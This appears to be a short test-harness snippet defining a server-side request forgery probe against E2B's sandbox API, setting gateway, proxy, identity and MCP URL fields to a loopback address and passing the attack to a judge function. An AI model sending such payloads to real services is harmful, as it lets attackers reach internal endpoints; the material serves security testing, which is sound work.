# aim: have the server call an address that the attacker cannot reach
# mechanism: fields of E2B's API that name addresses: gateways, proxies, identities
# server: calls
# plain: naive

def attack():
    address = f"http://127.0.0.1:{tcp_port}/"
    ask("POST", "/sandboxes", {"templateID": "base", "mcp": {"url": address}, "network": {"egressProxy": address}, "iam": {"url": address}, "url": address})


judge(attack)
